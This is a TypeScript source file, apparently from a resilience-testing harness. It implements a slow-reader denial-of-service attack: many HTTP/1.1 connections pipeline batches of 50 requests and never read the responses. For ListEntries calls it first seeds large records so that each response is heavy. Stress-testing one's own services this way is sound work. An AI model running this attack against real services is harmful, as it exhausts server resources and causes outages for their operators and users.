// HTTP/1.1 clients that ask again and again on one connection, and never read an answer.

import { once } from 'node:events';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { dialAs, record } from '../attacker/recorded-tasks.ts';
import { openSocket } from '../attacker/socket.ts';
import { tally } from '../attacker/tally.ts';

const PIPELINED = 50;
const LARGE_EXTENSION = JSON.stringify({ note: 'x'.repeat(4_000) });

/** Options: `connections`, `path` of a page or of ListEntries. */
export const attack: Attack = async ({ target, preparer, options }) => {
  const { connections, path } = options;
  const isCall = String(path).includes('ListEntries');
  if (isCall) {
    using client = dialAs(preparer);
    await record(
      client,
      Array.from({ length: 500 }, () => ({ ect_ext_json: LARGE_EXTENSION })),
    );
  }
  const body = '{"pageSize":1000}';
  const request =
    `${isCall ? 'POST' : 'GET'} ${path} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n` +
    (isCall ? `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}` : '\r\n');
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      const socket = await openSocket(target, 'http/1.1');
      socket.pause();
      const closed = once(socket, 'close').catch(() => undefined);
      // Until the service takes no more, and then as soon as it does again.
      while (!until.aborted && !socket.destroyed) {
        tally('requests', PIPELINED);
        if (socket.write(request.repeat(PIPELINED))) await wait(50, until);
        else await Promise.race([once(socket, 'drain').catch(() => undefined), closed, wait(1000, until)]);
      }
      socket.destroy();
    });
};
